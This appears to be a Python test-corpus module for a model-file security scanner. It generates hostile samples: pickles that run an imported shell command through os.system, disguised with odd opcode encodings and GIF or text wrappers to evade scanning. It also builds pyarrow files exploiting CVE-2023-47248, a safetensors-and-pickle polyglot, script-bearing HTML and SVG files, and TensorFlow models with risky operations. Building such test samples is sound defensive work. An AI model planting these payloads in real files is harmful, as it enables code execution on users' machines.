"""Pickles written as no pickler writes them, which Python reads all the same; and rarer carriers.

Something odd must not make a scanner stop reading where the reader goes on: what stops it looks
like plain text, or like the picture that it begins as.
"""

from __future__ import annotations

import io
import struct
from collections.abc import Iterator

import pyarrow as pa
import pyarrow.feather
import pyarrow.parquet

from tests.corpus.assembly import SHELL, evil
from tests.corpus.sample import Hostile, dropped
from tests.corpus.wire import graph_def, saved_model

__all__ = ["ODD", "oddities"]

CALL = f"0cos\nsystem\n(S'{SHELL}'\ntR.".encode()
# Each leaves one value more on the stack.
ODD = {
    "put-plus": b"Np+7\n",
    "put-space": b"Np 7\n",
    "put-space-after": b"Np7 \n",
    "put-return": b"Np7\r\n",
    "put-underscore": b"Np1_0\n",
    "put-far": b"Np5000\n",
    "put-padded": b"Np" + b" " * 5000 + b"7\n",
    "get-far": b"Np99999\n0g99999\n",
    "int-hexadecimal": b"I0x10\n",
    "int-octal": b"I0o7\n",
    "int-binary": b"I0b1\n",
    "int-plus": b"I+7\n",
    "int-space": b"I 7\n",
    "int-underscore": b"I1_0\n",
    "int-return": b"I7\r\n",
    "int-hexadecimal-long": b"I0x" + b"f" * 5000 + b"\n",
    "long-hexadecimal": b"L0x10L\n",
    "long-plus": b"L+7L\n",
    "long-space": b"L 7\n",
    "float-infinity": b"FInfinity\n",
    "float-plus": b"F+inf\n",
    "float-minus": b"F-nan\n",
    "float-capitals": b"FNaN\n",
    "text-quote-inside": b"S'a'b'\n",
}
ONLY_BYTES = {
    "memoize-after-gap": b"Np5\n\x94",
    "int-zero-byte": b"I7\0x\n",
    "frame-crossed": b"\x95\x01" + bytes(7) + b"K\x01",
    "frame-too-long": b"\x95\0\x10" + bytes(6) + b"N",
    "frames-nested": b"\x95\x0b" + bytes(7) + b"\x95\x02" + bytes(7) + b"N",
}
WHY = "Python takes what no pickler writes, and goes on to the call"


def oddities() -> Iterator[Hostile]:
    """Yield the samples."""
    yield from dropped("oddities", _odd())
    yield from dropped("carriers", _carriers())


def _odd() -> Iterator[tuple[str, str, str, bytes]]:
    for trick, odd in ODD.items():
        yield f"{trick}-text", "notes.txt", WHY, odd + CALL
    for trick, odd in {**ODD, **ONLY_BYTES}.items():
        yield f"{trick}-picture", "plot.gif", WHY, b"GIF89aAAA0" + odd + CALL + b";"
    yield (
        "curly-quote",
        "notes.txt",
        WHY,
        f"Vos\np+7\n0Vsystem\np8\n0g7\ng8\n\x93(V{SHELL}\ntR.".encode("latin-1"),
    )


def _carriers() -> Iterator[tuple[str, str, str, bytes]]:
    for name, data in _tables():
        yield (
            f"arrow-{name}",
            f"cohort.{name}",
            "CVE-2023-47248: pyarrow unpickled such types",
            data,
        )
    yield "safetensors", "model.pkl", "a proper file of tensors that is a pickle too", _tensors()
    page = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
    yield "page", "report.html", "a browser runs its script", page
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg"><rect onclick="alert(1)"/></svg>'
    yield "drawing", "roc.svg", "a browser runs its script", drawing
    for operation in ("ImmutableConst", "RemoteCall", "TRTEngineOp"):
        why = "it reads a file, calls another machine, or runs a compiled program"
        yield f"operation-{operation}", "saved_model.pb", why, saved_model(graph_def([operation]))


def _tables() -> Iterator[tuple[str, bytes]]:
    told = {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": evil()}
    for filling in range(3):  # names of types are in base64, which comes out in three ways
        field = pa.field("x" * (1 + filling), pa.int64(), metadata=told)
        table = pa.table([[1]], schema=pa.schema([field]))
        target = io.BytesIO()
        pyarrow.parquet.write_table(table, target)
        yield ("parquet", "parq", "pqt")[filling], target.getvalue()
    target = io.BytesIO()
    pyarrow.feather.write_feather(table, target, compression="uncompressed")
    yield "feather", target.getvalue()


def _tensors() -> bytes:
    """Short strings of Python 2 lead from the length of the header through it to the tensor."""
    call = evil()[2:]
    opening = '{"__metadata__":{"k":"'.ljust(37, "p")
    length = ord("B") + 256 * 40  # BINBYTES of 40 bytes, which end where the opening does
    closing = f'"}},"a":{{"dtype":"U8","shape":[{len(call)}],"data_offsets":[0,{len(call)}]}}}}'
    short, longer = divmod(length - len(opening) - 128, 80)
    hops = [short - 2 + (number < longer) for number in range(80)]
    header = opening + "".join(f"U{chr(hop)}{'q' * hop}" for hop in hops)
    header += "U~" + closing.rjust(126, "q")
    return struct.pack("<Q", length) + header.encode() + call
